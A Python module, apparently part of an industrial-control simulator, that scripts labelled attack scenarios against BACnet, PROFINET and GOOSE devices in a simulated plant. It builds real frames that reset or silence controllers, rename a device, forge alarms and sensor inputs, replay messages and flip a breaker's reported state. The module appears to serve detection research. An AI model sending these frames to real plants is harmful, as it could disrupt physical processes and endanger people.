"""BACnet, PROFINET and GOOSE: what silences, renames, resets and impersonates devices at the process."""

from __future__ import annotations

import struct
from typing import TYPE_CHECKING, Final

from interlock.plant.actors.boiler import GOOD, INPUT_FRAME
from interlock.plant.actors.steps import Ask, Cast, Link, Wait
from interlock.plant.blind.chance import anybody, attacker, count, one_of, pace
from interlock.plant.blind.drawn import drawn
from interlock.plant.blind.forge import EVERYBODY, datagram, end_of, raw
from interlock.plant.protocols import goose, profinet
from interlock.plant.wire.frames import End

if TYPE_CHECKING:
    from collections.abc import Callable, Sequence

    from interlock.plant.actors.steps import Script
    from interlock.plant.attacks.scenario import Scenario, Scene
    from interlock.plant.draws import Draws

__all__ = ["FAMILIES"]

_DEVICE: Final = 8 << 22 | 5000
_GOOSE_GROUP: Final = bytes.fromhex("010ccd010001")


def _bvlc(npdu: bytes, function: int = 0x0A) -> bytes:
    return struct.pack("!BBH", 0x81, function, 4 + len(npdu)) + npdu


def _confirmed(invoke: int, service: int, data: bytes) -> bytes:
    return _bvlc(b"\x01\x04\x00\x05" + bytes((invoke & 0xFF, service)) + data)


def _hall(who: str, messages: Sequence[bytes], pause: float) -> Script:
    for octets in messages:
        yield Ask(Link(who, "hvac-hall", 47808, "udp"), octets)
        yield Wait(pause)


def _administration(draws: Draws) -> Scenario:
    what = one_of(draws, ("reinitialise", "silence", "rename", "clock"))
    who, times = anybody(draws, "hvac-hall"), count(draws, 1, 8)
    kind, minutes = count(draws, 0, 3), count(draws, 1, 200)
    named = b"\x0c" + _DEVICE.to_bytes(4, "big") + b"\x19\x4d\x3e\x75\x05\0evil\x3f"
    stamp = b"\xa4\x7a\x01\x01\x04\xb4\x03\x00\x00\x00"
    messages = {
        "reinitialise": _confirmed(1, 20, bytes((0x09, kind))),
        "silence": _confirmed(1, 17, b"\x09" + bytes((minutes, 0x19, 1))),
        "rename": _confirmed(1, 15, named),
        "clock": _bvlc(b"\x01\x00\x10\x06" + stamp),
    }
    ids = {
        "reinitialise": ("T0816", "T0814", "T0858"),
        "silence": ("T0804", "T0803", "T0814", "T0813", "T0815", "T0878"),
        "rename": ("T0836", "T0855", "T0849", "T0832", "T0856"),
        "clock": ("T0872", "T0836", "T0855"),
    }

    def script(_scene: Scene) -> Script:
        yield from _hall(who, [messages[what]] * times, 2.0)

    return drawn(f"bacnet-{what}", ids[what], who, ["hvac-hall"], script)


def _routes(draws: Draws) -> Scenario:
    """The broadcast table is written, or somebody registers as a foreign device."""
    who, table, times = attacker(draws, "hvac-hall"), draws.uniform() < 0.4, count(draws, 1, 10)
    entry = bytes((203, 0, 113, count(draws, 1, 250))) + b"\xba\xc0\xff\xff\xff\xff"
    octets = _bvlc(entry, 1) if table else _bvlc(count(draws, 30, 60000).to_bytes(2, "big"), 5)

    def script(_scene: Scene) -> Script:
        yield from _hall(who, [octets] * times, 5.0)

    ids = ("T0830", "T0836", "T0855", "T0848", "T0846", "T0802")
    return drawn("bacnet-broadcasts", ids, who, ["hvac-hall"], script)


def _subscriptions(draws: Draws) -> Scenario:
    """Subscriptions to every object's changes, more than a small device can serve."""
    who, many, pause = anybody(draws, "hvac-hall"), count(draws, 80, 500), pace(draws, 0.005, 0.1)

    def script(_scene: Scene) -> Script:
        def asked(k: int) -> bytes:
            return _confirmed(
                k, 5, b"\x0a" + struct.pack("!H", k) + b"\x1c" + struct.pack("!I", k % 60) + b"\x29\0\x39\0"
            )

        yield from _hall(who, [asked(k) for k in range(many)], pause)

    return drawn(
        "bacnet-subscriptions", ("T0814", "T0802", "T0801", "T0848", "T0846"), who, ["hvac-hall"], script
    )


def _who_is(draws: Draws) -> Scenario:
    who, times, pause = attacker(draws), count(draws, 1, 500), pace(draws, 0.01, 0.5)

    def script(_scene: Scene) -> Script:
        for k in range(times):
            link = Link(who, "hvac-hall", 47808, "broadcast")
            yield Ask(
                link,
                _bvlc(b"\x01\x20\xff\xff\x00\xff\x10\x08" + b"\x09\x00\x1a" + struct.pack("!H", k), 0x0B),
            )
            yield Wait(min(pause, 120 / times))

    return drawn("bacnet-who-is", ("T0846", "T0814", "T0888", "T0840"), who, ["hvac-hall"], script)


def _i_am(draws: Draws) -> Scenario:
    """Somebody says that he is the hall's controller, or a router to other networks."""
    who, router, times = attacker(draws, "hvac-hall"), draws.uniform() < 0.4, count(draws, 3, 60)
    told = b"\x01\x00\x10\x00\xc4" + _DEVICE.to_bytes(4, "big") + b"\x22\x05\xc4\x91\x03\x22\x03\xe7"
    octets = _bvlc(b"\x01\x80\x01" + struct.pack("!H", count(draws, 1, 60000)) if router else told, 0x0B)

    def script(_scene: Scene) -> Script:
        for k in range(times):
            everybody = End(EVERYBODY, bytes((10, 77, 1, 255)))
            yield datagram(who, end_of(who), everybody, (47808, 47808), octets, k)
            yield Wait(1.5)

    ids = ("T0849", "T0856", "T0830", "T0848", "T0846", "T0832")
    return drawn("bacnet-impostor", ids, who, ["hvac-hall"], script)


def _dcp(service: int, xid: int, blocks: bytes, frame_id: int = 0xFEFD) -> bytes:
    return struct.pack("!HBBIHH", frame_id, service, 0, xid, 0, len(blocks)) + blocks


def _dcp_set(draws: Draws) -> Scenario:
    """A device blinks, forgets all it was told, or comes back with its factory's settings."""
    what, who = one_of(draws, ("flash", "forget", "factory")), attacker(draws, "rio-boiler")
    times, pause = count(draws, 1, 12), pace(draws, 0.5, 8.0)
    block = {
        "flash": b"\x05\x03\x00\x04\0\0\1\0",
        "forget": b"\x05\x06\x00\x02\0\2",
        "factory": b"\x05\x05\x00\x02\0\0",
    }[what]

    def script(scene: Scene) -> Script:
        for _ in range(times):
            yield Cast(
                who, end_of("rio-boiler").mac, profinet.ETHERTYPE, _dcp(4, scene.draws.number(31), block)
            )
            yield Wait(pause)

    ids = {
        "flash": ("T0888", "T0855", "T0846", "T0836"),
        "forget": ("T0809", "T0816", "T0836", "T0814", "T0855"),
        "factory": ("T0809", "T0816", "T0836", "T0814", "T0855"),
    }
    return drawn(f"dcp-{what}", ids[what], who, ["rio-boiler"], script)


def _dcp_who(draws: Draws) -> Scenario:
    who, times, pause = attacker(draws, "rio-boiler"), count(draws, 1, 300), pace(draws, 0.02, 1.0)

    def script(scene: Scene) -> Script:
        for _ in range(times):
            octets = profinet.identify(scene.draws.number(31))
            yield Cast(who, profinet.IDENTIFY_GROUP, profinet.ETHERTYPE, octets)
            yield Wait(min(pause, 120 / times))

    return drawn("dcp-identify", ("T0846", "T0888", "T0814"), who, ["rio-boiler"], script)


def _alarms(draws: Draws) -> Scenario:
    """Alarms in the remote I/O's name, far more than it has ever told."""
    who, times, pause = attacker(draws, "rio-boiler"), count(draws, 20, 400), pace(draws, 0.01, 0.4)
    high, posing = draws.uniform() < 0.5, draws.uniform() < 0.7

    def script(_scene: Scene) -> Script:
        device, controller = end_of("rio-boiler").mac, end_of("plc-boiler").mac
        for k in range(times):
            body = struct.pack("!HHBBHHH", 1, 1, 0x11, 0x51, k, 0xFFFF, 28)
            block = struct.pack(
                "!HHBBHIHHIIH", 2 if high else 1, 24, 1, 0, 1, 0, 1, 1, 0x301, 1, 0xA000 | k & 0x7FF
            )
            payload = struct.pack("!H", 0xFC01 if high else 0xFE01) + body + block
            yield Cast(
                who, controller, profinet.ETHERTYPE, payload.ljust(46, b"\0"), device if posing else b""
            )
            yield Wait(pause)

    ids = ("T0856", "T0814", "T0832", "T0838", "T0878", "T0830", "T0848")
    return drawn("profinet-alarms", ids, who, ["plc-boiler", "rio-boiler"], script)


def _inputs(draws: Draws) -> Scenario:
    """Cyclic inputs in the remote I/O's name, now and then or all the time, plausible or not."""
    who, times, pause = attacker(draws, "rio-boiler"), count(draws, 20, 600), pace(draws, 0.05, 1.5)
    pressure, level = draws.uniform(0.0, 16.0), draws.uniform(0.0, 100.0)

    def script(scene: Scene) -> Script:
        device, controller = end_of("rio-boiler").mac, end_of("plc-boiler").mac
        counter = scene.draws.number(16)
        for _ in range(times):
            counter += 16_384
            told = struct.pack("!3f", pressure, level, 160.0) + GOOD
            yield Cast(
                who, controller, profinet.ETHERTYPE, profinet.cyclic(INPUT_FRAME, told, counter), device, 6
            )
            yield Wait(min(pause, 200 / times))

    ids = ("T0856", "T0832", "T0830", "T0831", "T0848", "T0855")
    return drawn("profinet-inputs", ids, who, ["plc-boiler", "rio-boiler"], script)


def _inputs_changed(draws: Draws) -> Scenario:
    """Cyclic inputs are changed on their way: one value is frozen, or shifted."""
    lasts, freeze, which = draws.uniform(100.0, 300.0), draws.uniform() < 0.5, count(draws, 0, 2)
    by = (1.5, 25.0, 30.0)[which] * (1 if draws.uniform() < 0.5 else -1)

    def script(scene: Scene) -> Script:
        held: list[float] = []
        sender = end_of("rio-boiler").mac

        def change(when: int, frame: bytes) -> Sequence[tuple[int, bytes]] | None:
            if frame[6:12] != sender or frame[16:20] != b"\x88\x92" + struct.pack("!H", INPUT_FRAME):
                return None
            at = 20 + 4 * which
            (value,) = struct.unpack_from("!f", frame, at)
            held.append(value)
            said = held[0] if freeze else value + by
            return [(when, frame[:at] + struct.pack("!f", said) + frame[at + 4 :])]

        scene.path().alter(change)
        yield Wait(lasts)
        scene.path().alter(None)

    ids = ("T0856", "T0832", "T0830", "T0831")
    return drawn("profinet-inputs-changed", ids, "vendor-laptop", ["plc-boiler", "rio-boiler"], script)


def _publisher(scene: Scene, state: int, sequence: int = 0) -> goose.Publisher:
    base = "RTUFEEDERCTRL/LLN0"
    return goose.Publisher(
        reference=f"{base}$GO$breaker", data_set=f"{base}$breaker", name="breaker", application=0x3001,
        state_number=state, sequence_number=sequence, changed_s=scene.now_s(),
    )  # fmt: skip


def _goose_flood(draws: Draws) -> Scenario:
    who, times, pause = attacker(draws, "rtu-feeder"), count(draws, 300, 3000), pace(draws, 0.001, 0.02)
    posing = draws.uniform() < 0.5

    def script(scene: Scene) -> Script:
        false, sender = _publisher(scene, 1), end_of("rtu-feeder").mac if posing else b""
        for _ in range(times):
            false.changed((True, 0.0), scene.now_s())
            yield Cast(who, _GOOSE_GROUP, goose.ETHERTYPE, false.payload(4000), sender, 4)
            yield Wait(pause)

    ids = ("T0814", "T0856", "T0855", "T0830", "T0831")
    return drawn("goose-flood", ids, who, ["rtu-feeder"], script)


def _goose_high(draws: Draws) -> Scenario:
    """One message with a number so high that subscribers take none of the true ones any more."""
    who, state, posing = attacker(draws, "rtu-feeder"), count(draws, 1_000, 2**31), draws.uniform() < 0.5
    times, shut = count(draws, 1, 4), draws.uniform() < 0.5

    def script(scene: Scene) -> Script:
        false, sender = _publisher(scene, state), end_of("rtu-feeder").mac if posing else b""
        for _ in range(times):
            false.changed((shut, 0.0), scene.now_s())
            yield Cast(who, _GOOSE_GROUP, goose.ETHERTYPE, false.payload(60_000), sender, 4)
            yield Wait(0.5)

    ids = ("T0856", "T0814", "T0855", "T0830", "T0831", "T0803", "T0804")
    return drawn("goose-high-number", ids, who, ["rtu-feeder"], script)


def _goose_replayed(draws: Draws) -> Scenario:
    who, kept, rounds = attacker(draws, "rtu-feeder"), draws.uniform(8.0, 60.0), count(draws, 1, 5)
    pause = pace(draws, 0.05, 2.0)

    def script(scene: Scene) -> Script:
        tape: list[bytes] = []

        def listen(_when: int, frame: bytes) -> None:
            if frame[16:18] == b"\x88\xb8":
                tape.append(frame)

        scene.path().alter(listen)
        yield Wait(kept)
        scene.path().alter(None)
        scene.shows()
        for _ in range(rounds):
            for frame in tape:
                yield raw(who, frame)
                yield Wait(pause)

    ids = ("T0856", "T0830", "T0855", "T0831")
    return drawn("goose-replayed", ids, who, ["rtu-feeder"], script, slow=True)


def _goose_changed(draws: Draws) -> Scenario:
    """The breaker's state is turned round on its way, numbers and all else as they were."""
    lasts = draws.uniform(30.0, 300.0)

    def script(scene: Scene) -> Script:
        def change(when: int, frame: bytes) -> Sequence[tuple[int, bytes]] | None:
            at = frame.find(b"\x83\x01", frame.find(b"\xab")) if frame[16:18] == b"\x88\xb8" else -1
            return (
                None if at < 0 else [(when, frame[: at + 2] + bytes((1 - frame[at + 2],)) + frame[at + 3 :])]
            )

        scene.path().alter(change)
        yield Wait(lasts)
        scene.path().alter(None)

    ids = ("T0856", "T0832", "T0830", "T0831", "T0855")
    return drawn("goose-changed", ids, "vendor-laptop", ["rtu-feeder"], script)


def _goose_silenced(draws: Draws) -> Scenario:
    """Its messages do not arrive any more (suppressed at a switch)."""
    lasts = draws.uniform(60.0, 420.0)

    def script(scene: Scene) -> Script:
        scene.path().alter(lambda _when, frame: [] if frame[16:18] == b"\x88\xb8" else None)
        yield Wait(lasts)
        scene.path().alter(None)

    ids = ("T0804", "T0815", "T0814", "T0803", "T0878", "T0837", "T0829")
    return drawn("goose-silenced", ids, "vendor-laptop", ["rtu-feeder"], script)


FAMILIES: Final[dict[str, Callable[[Draws], Scenario]]] = {
    "bacnet-administration": _administration, "bacnet-broadcasts": _routes, "bacnet-subscriptions": _subscriptions,
    "bacnet-who-is": _who_is, "bacnet-impostor": _i_am, "dcp-set": _dcp_set, "dcp-identify": _dcp_who,
    "profinet-alarms": _alarms, "profinet-inputs": _inputs, "profinet-inputs-changed": _inputs_changed,
    "goose-flood": _goose_flood, "goose-high-number": _goose_high, "goose-replayed": _goose_replayed,
    "goose-changed": _goose_changed, "goose-silenced": _goose_silenced,
}  # fmt: skip
